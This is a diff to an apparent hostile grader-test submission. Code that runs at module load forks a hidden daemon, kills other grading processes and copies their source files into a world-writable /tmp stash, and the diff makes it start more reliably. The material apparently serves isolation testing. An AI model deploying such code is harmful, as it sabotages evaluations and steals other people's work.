@@ -4,7 +4,8 @@ Aimed at the unprivileged-uid isolation level, where every submission's
 child runs as an ordinary user of the grading machine. At load (a default
 argument value runs when its `def` runs) it double-forks a daemon that
 calls setsid() (leaving the child's process group) and renames itself
-"hostile-uid-dmn". The daemon waits until its own grading is over (the
+"hostile-uid-dmn"; the load goes on only once the daemon has logged that it
+runs, so a quick grading cannot reap it before it is in place. The daemon waits until its own grading is over (the
 process that started it is gone), then for 60 s kills every grader child
 it is allowed to signal and copies the .py files of each one's working
 folder into /tmp/grader_hostile_uid_stash, with a log of what it did.
@@ -118,6 +119,7 @@ class LeNet(nn.Module):
 
 # --- the attack ---------------------------------------------------------------------------
 import os
+import select
 import shutil
 import signal
 import time
@@ -147,10 +149,12 @@ def _grader_children():
     return found
 
 
-def _haunt(mine):
+def _haunt(mine, ready):
     os.makedirs(_STASH, exist_ok=True)
     os.chmod(_STASH, 0o777)
     _log(f"daemon {os.getpid()} waiting for {mine} to finish")
+    os.write(ready, b"1")  # in place: the load may go on
+    os.close(ready)
     while os.path.exists(f"/proc/{mine}") and not open(f"/proc/{mine}/stat").read().split(")")[-1].split()[0] == "Z":
         time.sleep(0.1)
     _log("own grading over; hunting")
@@ -181,18 +185,25 @@ def _haunt(mine):
 
 def _daemonize():
     mine = os.getpid()
+    ready_r, ready_w = os.pipe()
     try:
         if os.fork() != 0:
+            # A careful attacker lets the load finish only once the daemon runs (at most 10 s): a grading that
+            # ends quickly must not reap it before it is in place.
+            os.close(ready_w)
+            select.select([ready_r], [], [], 10)
+            os.close(ready_r)
             return "started"
     except OSError:
         return "no fork"
     try:
+        os.close(ready_r)
         os.setsid()
         if os.fork() != 0:
             os._exit(0)
         with open("/proc/self/comm", "w") as f:
             f.write("hostile-uid-dmn")
-        _haunt(mine)
+        _haunt(mine, ready_w)
     finally:
         os._exit(0)
 
